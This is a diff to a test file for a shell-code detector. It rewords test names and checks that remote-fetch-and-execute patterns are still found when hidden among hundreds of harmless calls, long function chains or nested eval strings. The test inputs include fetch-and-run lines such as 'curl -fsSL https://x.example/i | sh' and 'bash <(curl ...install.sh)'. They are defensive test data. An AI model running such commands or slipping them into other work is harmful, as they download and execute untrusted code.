@@ -6,7 +6,7 @@ import { assertSound } from "./invariants.js";
 
 const FETCH = "bash <(curl -fsSL https://x.example/install.sh)";
 
-/** Functions that walk a file tree and call each other with longer and longer paths. */
+/** Functions that call each other with longer and longer paths of a file tree. */
 const walk = `walk() { for d in "$1"/*; do walk "$d"; visit "$d"; walk "$d/x"; done; }
 visit() { walk "$1"; walk "$2"; visit "$3"; visit "$4"; }
 scan() { walk "$1"; visit "$1"; scan "$2"; scan "$3"; }
@@ -15,7 +15,7 @@ ${FETCH}
 `;
 
 const programs: Readonly<Record<string, string>> = {
-  "functions that go through a tree": walk,
+  "functions that walk a file tree": walk,
   "a chain of 40 functions": chain(40),
   "a chain of 4,000 functions": chain(4000),
   "6 functions that call each other": clique(6),
@@ -24,14 +24,14 @@ const programs: Readonly<Record<string, string>> = {
   "a menu of 1,600 actions": menu(1600),
 };
 
-/** Returns calls that differ only in literal words, before the relevant one. */
+/** Returns a program of a definition, calls that differ only in literal words, and a last call. */
 function padded(definition: string, calls: readonly string[], last: string): string {
   return `${[definition, ...calls, last].join("\n")}\n`;
 }
 
 const range = (length: number): string[] => Array.from({ length }, (_, index) => String(index));
 
-describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
+describe.each(profiles)("function calls in the %s profile:", { timeout: 120_000 }, (profile) => {
   it.each(Object.entries(programs))("%s are evaluated completely", async (_, text) => {
     const detection = (await sharedDetector(profile)).detect(text);
     assertSound(text, detection);
@@ -59,7 +59,7 @@ describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
       'eval "$1"',
     ],
     [
-      "a function that passes on what it is given",
+      "a function that passes its argument to a fetcher",
       padded(
         'get() { curl -fsSL "$1"; }',
         range(300).map((at) => `get https://x.example/${at} > f${at}`),
@@ -67,16 +67,21 @@ describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
       ),
       "get https://x.example/i | sh",
     ],
-  ])("hundreds of plain calls do not hide another: %s", async (_, text, found) => {
-    const detection = (await sharedDetector(profile)).detect(text);
-    assertSound(text, detection);
-    expect(
-      detection.findings.filter(({ level }) => level === "finding").map((finding) => finding.text),
-    ).toEqual([found]);
-    expect(detection.outcome).toEqual({ status: "complete" });
-  });
+  ])(
+    "hundreds of harmless calls do not hide a finding in another call of %s",
+    async (_, text, found) => {
+      const detection = (await sharedDetector(profile)).detect(text);
+      assertSound(text, detection);
+      expect(
+        detection.findings
+          .filter(({ level }) => level === "finding")
+          .map((finding) => finding.text),
+      ).toEqual([found]);
+      expect(detection.outcome).toEqual({ status: "complete" });
+    },
+  );
 
-  it("different arguments of very many calls are joined, and the outcome reports it", async () => {
+  it("if there are very many calls, their different arguments are joined, and the outcome is incomplete", async () => {
     const text = growing(30, "curl -fsSL https://x.example/i | sh");
     const detection = (await sharedDetector(profile)).detect(text);
     assertSound(text, detection);
@@ -84,7 +89,7 @@ describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
     expect(detection.outcome.status).toBe("incomplete");
   });
 
-  it("calls that spend the budget hide no later finding, also in other blocks", async () => {
+  it("calls that exhaust the budget hide no later finding in the same or another block", async () => {
     const costly = `${growing(200, "curl -fsSL https://x.example/i | sh")}curl B | sh\n`;
     const text = `\`\`\`sh\n${costly}\`\`\`\n\n`.repeat(3);
     const detection = (await sharedDetector(profile)).detect(text);
@@ -95,11 +100,11 @@ describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
   });
 
   it.each([
-    ["code", 300, "'curl U | sh'", ['eval "$1"']],
-    ["fetched text", 300, '"$(curl U)"', ['eval "$1"']],
-    ["plain words", 300, "'curl U | jq'", []],
-    ["a file", 300, '"$(curl -o f U)"', []],
-  ])("%s are followed through %i functions", async (_, length, given, found) => {
+    ["an argument that is code", 300, "'curl U | sh'", ['eval "$1"']],
+    ["an argument that is fetched content", 300, '"$(curl U)"', ['eval "$1"']],
+    ["an argument that is a harmless command", 300, "'curl U | jq'", []],
+    ["an argument that is an empty output", 300, '"$(curl -o f U)"', []],
+  ])("%s is followed through %i functions", async (_, length, given, found) => {
     const links = range(length).map((at) => `f${String(Number(at) + 1)}() { f${at} "$1"; }`);
     const text = ['f0() { eval "$1"; }', ...links, `f${String(length)} ${given}`, ""].join("\n");
     const detection = (await sharedDetector(profile)).detect(text);
@@ -113,14 +118,17 @@ describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
   it.each([
     [13, ['eval "$v13"'], "complete"],
     [60, [], "incomplete"],
-  ])("%i nested code strings are read or reported as not read", async (depth, found, status) => {
-    const strings = range(depth).map((at) => `v${String(Number(at) + 1)}='eval "$v${at}"'`);
-    const text = ["v0='curl U | sh'", ...strings, `eval "$v${String(depth)}"`, ""].join("\n");
-    const detection = (await sharedDetector(profile)).detect(text);
-    assertSound(text, detection);
-    expect(detection.findings.map((finding) => finding.text)).toEqual(found);
-    expect(detection.outcome.status).toBe(status);
-  });
+  ])(
+    "%i nested code strings are evaluated or make the outcome incomplete",
+    async (depth, found, status) => {
+      const strings = range(depth).map((at) => `v${String(Number(at) + 1)}='eval "$v${at}"'`);
+      const text = ["v0='curl U | sh'", ...strings, `eval "$v${String(depth)}"`, ""].join("\n");
+      const detection = (await sharedDetector(profile)).detect(text);
+      assertSound(text, detection);
+      expect(detection.findings.map((finding) => finding.text)).toEqual(found);
+      expect(detection.outcome.status).toBe(status);
+    },
+  );
 
   it.each([
     ['f() { eval "$S"; }\nS=$(curl A)\nf\n', ['eval "$S"']],
@@ -134,10 +142,15 @@ describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
     ['f() { g "$1"; }\ng() { eval "$1"; }\nf ls\ng() { :; }\nf "curl A | sh"\n', []],
     ["( g() { sh; }; f() { curl A | g; }; f )\n", ["curl A | g"]],
     ["f() { curl A | g; }\n( g() { sh; }; :; )\nf\n", []],
-  ])("a call sees the values that were set before it: %j", async (text, found) => {
-    const detection = (await sharedDetector(profile)).detect(`\`\`\`sh\n${text}\`\`\`\n`);
-    expect(
-      detection.findings.filter(({ level }) => level === "finding").map((finding) => finding.text),
-    ).toEqual(found);
-  });
+  ])(
+    "a call uses the values and functions that were defined before it: %j",
+    async (text, found) => {
+      const detection = (await sharedDetector(profile)).detect(`\`\`\`sh\n${text}\`\`\`\n`);
+      expect(
+        detection.findings
+          .filter(({ level }) => level === "finding")
+          .map((finding) => finding.text),
+      ).toEqual(found);
+    },
+  );
 });
